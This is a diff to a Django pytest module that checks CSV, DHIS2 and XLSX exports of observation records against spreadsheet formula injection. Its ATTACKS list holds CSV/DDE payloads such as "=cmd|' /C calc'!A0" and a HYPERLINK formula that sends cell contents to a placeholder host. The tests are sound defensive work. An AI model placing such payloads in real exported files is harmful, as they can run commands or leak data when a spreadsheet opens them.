@@ -25,6 +25,10 @@ from .conftest import NGUYEN_LY, SET
 pytestmark = pytest.mark.django_db
 
 PERIOD = "2023-09"  # not used by the world's other data
+# indicators of the set (DHIS2 leaves out a code the catalogue does not know): one per free text, then a
+# number ("10", triệu đồng) and a value typed as a formula on another number ("9.1")
+CODES = ["1.1", "1.2", "2.1", "2.2", "2.3", "2.4", "3.1", "3.2", "4.1", "4.2", "5", "6.1", "6.2", "6.3", "7", "8.1"]
+NUMBER, TYPED = "10", "9.1"
 ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\ndòng 2, có phẩy"]
 SAFE = ["-5", "+1,5", "-12.5%", "Ghi chú bình thường", " =khoảng trắng trước", "'=đã có nháy", "−5", ""]
@@ -39,15 +43,15 @@ def noted(world):
     made = []
     for k, text in enumerate(ATTACKS + SAFE):
         made.append(Observation.objects.create(
-            unit=unit, set_code=SET, period=PERIOD, year=2023, indicator=f"{k + 1}.9", assessment=k % 2 == 0,
+            unit=unit, set_code=SET, period=PERIOD, year=2023, indicator=CODES[k], assessment=k % 2 == 0,
             note=text, evidence=text if k < 3 else "", created_by_name=text if k == 1 else "Cán bộ xã",
             source="import"))  # source, batch, codes and unit names are set by the system, never typed
     # a number typed with a sign stays the number; a text value that is a formula does not
-    made.append(Observation.objects.create(unit=unit, set_code=SET, period=PERIOD, year=2023, indicator="90.1",
+    made.append(Observation.objects.create(unit=unit, set_code=SET, period=PERIOD, year=2023, indicator=NUMBER,
                                            value_text="-5", value_num=-5.0, assessment=False))
-    made.append(Observation.objects.create(unit=unit, set_code=SET, period=PERIOD, year=2023, indicator="90.2",
+    made.append(Observation.objects.create(unit=unit, set_code=SET, period=PERIOD, year=2023, indicator=TYPED,
                                            value_text="=1+1", assessment=True, note="=2+2", version=1, is_current=False))
-    made.append(Observation.objects.create(unit=unit, set_code=SET, period=PERIOD, year=2023, indicator="90.2",
+    made.append(Observation.objects.create(unit=unit, set_code=SET, period=PERIOD, year=2023, indicator=TYPED,
                                            value_text="-1+A1", assessment=True, note="@A1", version=2))
     return made
 
@@ -80,17 +84,17 @@ def test_no_csv_export_hands_a_spreadsheet_a_formula(world, noted, what, history
         for text in ATTACKS:
             assert "'" + text in flat, (text, what)
         head = rows[0]
-        row = next(r for r in rows if r[head.index("Chỉ tiêu")] == "90.1")
+        row = next(r for r in rows if r[head.index("Chỉ tiêu")] == NUMBER)
         assert (row[head.index("Giá trị")], row[head.index("Giá trị số")]) == ("-5", "-5.0")
         assert ("'=cmd|' /C calc'!A0" in flat) and ("'=1+1\ndòng 2, có phẩy" in flat)
         assert ("'=2+2" in flat) == history  # the earlier version is in the history only
     else:
         head = [h.lower() for h in rows[0]]
         values = {r[0]: r[head.index("value")] for r in rows[1:]}
-        assert values[f"{SET}:90.1"] == "-5"  # DHIS2 value of the number −5
-        assert values[f"{SET}:90.2"] == "'-1+A1"  # a text value that is a formula
-        for text in ATTACKS:  # in the comment, after the assessment's words
-            assert any(c.endswith("; " + text) for c in flat), (text, what)
+        assert values[f"{SET}:{NUMBER}"] == "-5"  # DHIS2 value of the number −5
+        assert f"{SET}:{TYPED}" not in values  # a formula typed on a number is no DHIS2 value at all
+        for text in ATTACKS:  # the note is the comment, neutralised
+            assert any(c.startswith(neutralise(text)) for c in flat), (text, what)
 
 
 def test_the_observation_csv_of_the_database_equals_the_generic_writer_with_attacks(world, noted):
@@ -116,7 +120,7 @@ def test_xlsx_exports_keep_texts_as_texts(world, noted, what):
     if what == "observations":
         assert "=cmd|' /C calc'!A0" in values and -5 in values  # the text, and the number as a number
     else:
-        assert "-1+A1" in values and "đánh giá của cán bộ; =cmd|' /C calc'!A0" in values
+        assert "-5" in values and any(str(v).startswith("=cmd|' /C calc'!A0") for v in values)  # a text cell
 
 
 def test_the_bulletin_and_catalogue_workbooks_write_no_formula():
